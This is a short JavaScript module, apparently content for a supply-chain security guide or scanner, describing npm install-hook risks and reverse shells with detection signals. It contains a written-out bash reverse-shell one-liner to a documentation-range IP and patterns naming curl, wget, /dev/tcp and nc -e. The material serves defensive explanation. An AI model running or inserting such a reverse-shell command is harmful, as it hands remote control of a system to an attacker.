module.exports = [
  { title: 'Install hooks', text: 'Lifecycle scripts run with your rights.', signal: 'curl or wget in preinstall' },
  { title: 'Reverse shells', text: 'Rare, and loud.', snippet: 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1', signal: '/dev/tcp, nc -e' },
];
